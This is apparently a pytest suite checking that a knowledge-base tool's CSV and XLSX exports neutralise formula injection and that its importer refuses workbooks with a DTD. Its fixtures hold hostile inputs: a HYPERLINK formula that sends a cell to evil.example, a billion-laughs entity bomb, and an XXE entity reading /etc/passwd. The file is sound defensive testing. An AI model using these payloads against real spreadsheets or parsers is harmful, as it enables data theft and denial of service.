"""Spreadsheet safety (issue 15 item 6): CSV cells are quoted, XLSX cells are strings, and the
importers read every exported value back unchanged; workbooks with a DTD are refused."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from minamata_kb.core import tabular
from minamata_kb.core.importing import ImportRejected, read_csv_rows

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "'plain",
    "-",
    "=",
    "plain = text",
    "a\n=1+1",
]


def formula_like(cell: str) -> bool:
    return cell.lstrip()[:1] in tabular.FORMULA_START


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_are_quoted_and_unquoted_exactly(value: str) -> None:
    cell = tabular.csv_cell(value)
    assert not formula_like(cell)
    assert tabular.csv_text(cell) == value


def test_plain_values_are_left_alone() -> None:
    for value in ["Inventory training", "10", "2023-01-01", "a'b", "", "x=1"]:
        assert tabular.csv_cell(value) == value
        assert tabular.csv_text(value) == value
    assert tabular.csv_cell(-5) == -5  # numbers cannot carry a formula


def test_a_csv_written_by_the_helper_reads_back_unchanged(tmp_path: Path) -> None:
    buf = io.StringIO(newline="")
    w = tabular.DictWriter(buf, fieldnames=["n", "title"], lineterminator="\n")
    w.writeheader()
    for i, value in enumerate(HOSTILE):
        w.writerow({"n": str(i), "title": value})
    for row in csv.reader(io.StringIO(buf.getvalue(), newline="")):
        assert not any(formula_like(c) for c in row), row
    path = tmp_path / "t.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    rows = read_csv_rows(path, ["n", "title"])
    # Exactly, leading whitespace included: the quote protects it from the importer's strip.
    assert [r["title"] for _, r in rows] == HOSTILE


def formula_cells(xlsx: bytes) -> list[str]:
    """Cells of a workbook that hold a formula, read from the sheet XML itself."""
    from lxml import etree

    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = etree.fromstring(z.read(name))
                found += [c.get("r") for c in root.iter(f"{ns}c") if c.find(f"{ns}f") is not None]
    return found


def test_xlsx_cells_are_strings_never_formulas() -> None:
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    tabular.xlsx_append(sheet, ["title"])
    for value in HOSTILE:
        tabular.xlsx_append(sheet, [value])
    buf = io.BytesIO()
    book.save(buf)
    assert formula_cells(buf.getvalue()) == []
    back = load_workbook(io.BytesIO(buf.getvalue()))
    assert [c.value for (c,) in back.active.iter_rows(min_row=2)] == HOSTILE
    for (c,) in back.active.iter_rows(min_row=2):
        assert c.data_type == "s"
        assert c.quotePrefix == tabular._needs_quote(c.value), c.value


def xlsx_with_dtd(dtd: bytes) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["code", "title"])
    sheet.append(["a-1", "x"])
    buf = io.BytesIO()
    book.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                head, decl, rest = data.partition(b"?>")
                data = head + decl + dtd + rest if decl else dtd + data
            zout.writestr(item, data)
    return out.getvalue()


LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("dtd", [LAUGHS, XXE, b"<!DOCTYPE worksheet>"])
def test_a_workbook_with_a_dtd_is_refused_before_parsing(dtd: bytes) -> None:
    with pytest.raises(ImportRejected, match="declares a DTD"):
        with tabular.open_workbook(xlsx_with_dtd(dtd), "w.xlsx"):
            pass


@pytest.mark.parametrize(
    "data", [b"", b"not a zip", b"PK\x03\x04broken", b"PK\x05\x06" + b"\0" * 18]
)
def test_broken_workbooks_are_a_clean_refusal(data: bytes) -> None:
    with pytest.raises(ImportRejected, match="not a readable XLSX"):
        with tabular.open_workbook(data, "w.xlsx"):
            pass


def test_a_good_workbook_opens() -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["code", "title"])
    buf = io.BytesIO()
    book.save(buf)
    with tabular.open_workbook(buf.getvalue(), "w.xlsx") as opened:
        assert [list(r) for r in opened.worksheets[0].iter_rows(values_only=True)] == [
            ["code", "title"]
        ]
